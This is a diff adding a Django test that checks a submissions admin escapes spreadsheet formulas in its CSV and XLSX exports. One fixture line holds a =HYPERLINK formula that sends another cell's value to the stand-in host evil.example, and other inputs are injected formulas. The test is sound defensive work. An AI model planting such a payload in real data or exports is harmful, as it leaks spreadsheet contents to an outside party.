@@ -82,6 +82,26 @@ def test_export_of_the_current_filter_as_csv_and_xlsx(editor_client, submission)
     assert sorted(titles) == ["Back on Pine Street", "Long one"]
 
 
+HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&G2,"Open")'
+
+
+def test_a_reviewer_exports_formulas_as_text(reviewer_client, callout):
+    """A submitter's name or title that a spreadsheet would run shows as the text it is."""
+    _web(callout, "+1+1 miles", submitter_name=HYPERLINK)
+    _web(callout, "@SUM(A1) and more", submitter_name="-2+3")
+    response = reviewer_client.get("/admin/submissions/?export=csv")
+    assert response.status_code == 200
+    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
+    cells = {(row["Submitter name"], row["Title"]) for row in rows}
+    assert cells == {("'" + HYPERLINK, "'+1+1 miles"), ("'-2+3", "'@SUM(A1) and more")}
+
+    # XLSX cells are typed as text: the very words, never a formula.
+    response = reviewer_client.get("/admin/submissions/?export=xlsx")
+    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
+    names = {row[5].value: row[5].data_type for row in sheet.iter_rows(min_row=2)}
+    assert names == {HYPERLINK: "s", "-2+3": "s"}
+
+
 def test_bulk_assign_change_status_and_decline(
     editor_client, editor, submission, django_capture_on_commit_callbacks
 ):
